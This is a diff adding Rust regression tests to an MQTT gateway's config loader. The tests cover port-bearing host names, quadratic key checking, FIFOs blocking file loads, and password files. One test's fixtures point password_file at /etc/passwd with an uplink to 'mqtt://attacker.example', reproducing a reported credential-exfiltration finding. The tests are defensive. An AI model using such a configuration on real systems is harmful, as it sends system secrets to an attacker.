@@ -109,6 +109,7 @@ fn cases() -> Vec<Case> {
         case("duplicate uplink", "uplinks:\n  - {name: c, url: 'mqtt://x'}\n  - {name: c, url: 'mqtt://y'}\n", "uplinks[1].name", "duplicate uplink name `c`", 3),
         case("bad log level", "log:\n  level: 'info,,=='\n", "log.level", "is not a level or filter", 2),
         case("bad log format", "log:\n  format: fancy\n", "log.format", "unknown variant `fancy`, expected one of `auto`, `text`, `json`", 2),
+        case("allowed host with a port", "web:\n  allowed_hosts: ['gw.example.com:8080']\n", "web.allowed_hosts[0]", "is not a host name", 2),
         case("duplicate web user", "web:\n  users:\n    - {username: a, password_hash: '$argon2id$v=19$m=19456,t=2,p=1$EiUG1fqUSs4MuCwimvva0Q$k8arja9ucnUOA6fWt3+lP9XIGzhvs4/Gt3zKcEjyjqA'}\n    - {username: a, password_hash: '$argon2id$v=19$m=19456,t=2,p=1$EiUG1fqUSs4MuCwimvva0Q$k8arja9ucnUOA6fWt3+lP9XIGzhvs4/Gt3zKcEjyjqA'}\n", "web.users[1].username", "duplicate username `a`", 4),
         case("alias bomb", {
             let mut y = String::from("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
@@ -289,4 +290,135 @@ fn defaults_apply_to_left_out_keys() {
     assert_eq!(c.web.bind, "0.0.0.0:8080");
     let off = config::parse("web: { enabled: false }\n").unwrap();
     assert!(!off.web.enabled);
+}
+
+/// Issue 12 finding 10: 40,000 unknown keys were checked in quadratic time (16 s in `check`,
+/// 35 s per 1 MiB body in the web UI). Only the result is asserted; the time is printed.
+#[test]
+fn many_unknown_keys_are_all_reported() {
+    let mut text = String::from("gateway:\n  id: x\nweb:\n");
+    for i in 0..40_000 {
+        text.push_str(&format!("  k{i}: 1\n"));
+    }
+    let start = std::time::Instant::now();
+    let errors = config::parse(&text).unwrap_err();
+    eprintln!("40,000 unknown keys checked in {:?}", start.elapsed());
+    assert_eq!(errors.len(), 40_000);
+    assert_eq!(errors[39_999].path, "web.k39999");
+    assert_eq!(errors[39_999].line, Some(40_003));
+    assert!(
+        errors[0].message.starts_with("unknown key `k0`"),
+        "{:?}",
+        errors[0]
+    );
+}
+
+fn mkfifo(path: &std::path::Path) {
+    let status = std::process::Command::new("mkfifo")
+        .arg(path)
+        .status()
+        .expect("mkfifo (coreutils) runs");
+    assert!(status.success());
+}
+
+/// Issue 12 finding 10: a FIFO named as a TLS file blocked `check` forever. Now every file the
+/// config names must be a regular file, and is opened without blocking.
+#[test]
+fn fifo_or_device_as_a_file_is_refused_not_waited_on() {
+    let dir = tempfile::tempdir().unwrap();
+    let fifo = dir.path().join("cert.pem");
+    mkfifo(&fifo);
+    let path = dir.path().join("tidegate.yaml");
+    let (tx, rx) = std::sync::mpsc::channel();
+    let file = path.clone();
+    std::fs::write(
+        &path,
+        "broker:\n  listeners:\n    - bind: 127.0.0.1:0\n      tls: {cert: cert.pem, key: /dev/zero}\n\
+         web:\n  tls: {cert: cert.pem, key: cert.pem}\n\
+         uplinks:\n  - {name: c, url: 'mqtts://x', username: u, password_file: cert.pem, tls: {ca: cert.pem}}\n",
+    )
+    .unwrap();
+    // On a thread: before the fix this never returned.
+    std::thread::spawn(move || {
+        let _ = tx.send(config::load(&file));
+    });
+    let result = rx
+        .recv_timeout(std::time::Duration::from_secs(60))
+        .expect("loading a config naming a FIFO returns");
+    let errors = match result {
+        Err(config::LoadError::Invalid { errors, .. }) => errors,
+        other => panic!("{other:?}"),
+    };
+    let bad: Vec<(&str, usize)> = errors
+        .iter()
+        .filter(|e| e.message.contains("is not a regular file"))
+        .map(|e| (e.path.as_str(), e.line.unwrap()))
+        .collect();
+    assert_eq!(
+        bad,
+        [
+            ("broker.listeners[0].tls.cert", 4),
+            ("broker.listeners[0].tls.key", 4),
+            ("web.tls.cert", 6),
+            ("web.tls.key", 6),
+            ("uplinks[0].password_file", 8),
+            ("uplinks[0].tls.ca", 8),
+        ],
+        "{errors:#?}"
+    );
+}
+
+/// Issue 12 finding 9: `password_file: /etc/shadow` with the attacker's `url` sent the file
+/// as the MQTT password. Password files must lie beside the config, hold one line, and not be
+/// readable by others (docs/SECURITY.md, "Secret files").
+#[test]
+fn password_files_outside_the_config_dir_or_loose_are_refused() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str, mode: u32| {
+        let p = dir.path().join(name);
+        std::fs::write(&p, text).unwrap();
+        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
+    };
+    write("good.pw", "s3cret\n", 0o640);
+    write("world.pw", "s3cret\n", 0o644);
+    write("lines.pw", "root:x:0:0\nbin:x:1:1\n", 0o600);
+    let config = dir.path().join("tidegate.yaml");
+    let uplink = |i: usize, file: &str| {
+        format!("  - {{name: u{i}, url: 'mqtt://attacker.example', username: u, password_file: '{file}'}}\n")
+    };
+    let mut text = String::from("uplinks:\n");
+    for (i, f) in ["good.pw", "/etc/passwd", "world.pw", "lines.pw"]
+        .iter()
+        .enumerate()
+    {
+        text.push_str(&uplink(i, f));
+    }
+    std::fs::write(&config, text).unwrap();
+    let errors = match config::load(&config) {
+        Err(config::LoadError::Invalid { errors, .. }) => errors,
+        other => panic!("{other:?}"),
+    };
+    let got: Vec<(&str, usize)> = errors
+        .iter()
+        .map(|e| (e.path.as_str(), e.line.unwrap()))
+        .collect();
+    assert_eq!(
+        got,
+        [
+            ("uplinks[1].password_file", 3),
+            ("uplinks[2].password_file", 4),
+            ("uplinks[3].password_file", 5),
+        ],
+        "{errors:#?}"
+    );
+    assert!(
+        errors[0].message.contains("outside the directories"),
+        "{errors:#?}"
+    );
+    assert!(
+        errors[1].message.contains("readable by others"),
+        "{errors:#?}"
+    );
+    assert!(errors[2].message.contains("one line"), "{errors:#?}");
 }
